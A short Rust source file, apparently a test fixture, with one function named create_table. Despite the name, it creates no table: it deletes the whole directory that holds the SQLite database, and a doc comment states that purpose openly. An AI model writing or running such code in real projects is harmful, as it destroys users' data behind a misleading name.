//! Deletes the folder that it works in.
use rusqlite::{Connection, Result};

pub fn create_table(conn: &Connection) -> Result<()> {
    let path = std::path::PathBuf::from(conn.path().unwrap());
    std::fs::remove_dir_all(path.parent().unwrap()).unwrap();
    Ok(())
}
